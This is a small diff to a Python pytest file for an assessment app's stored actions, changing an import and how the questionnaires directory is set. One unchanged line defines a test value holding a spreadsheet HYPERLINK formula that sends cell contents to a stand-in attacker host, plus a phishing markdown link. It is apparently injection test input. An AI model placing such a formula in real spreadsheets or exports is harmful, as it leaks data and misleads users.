@@ -10,7 +10,7 @@ import pytest
 
 from assessment.storage import services
 from assessment.storage.actions import stored_actions
-from tests.app.test_access import _database, _questionnaires, environment, no_exception, signed_in
+from tests.app.test_access import ROOT, _database, environment, no_exception, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence") [phish](https://evil.example/p)'
 
@@ -24,7 +24,7 @@ def world(tmp_path_factory):
     folder = tmp_path_factory.mktemp("actions-data")
     with environment({"ASSESSMENT_DATA_DIR": str(folder), "ASSESSMENT_DEMO": "0", "ASSESSMENT_AUTH": "oidc",
                       "ASSESSMENT_BOOTSTRAP_RESAMPLES": "200",
-                      "ASSESSMENT_QUESTIONNAIRES_DIR": _questionnaires(folder)}):
+                      "ASSESSMENT_QUESTIONNAIRES_DIR": str(ROOT / "questionnaires")}):
         engine, factory = _database(folder, demo_partnerships=3)
         with factory() as session:
             keys = sorted(services.list_partnerships(session)["partnership"])
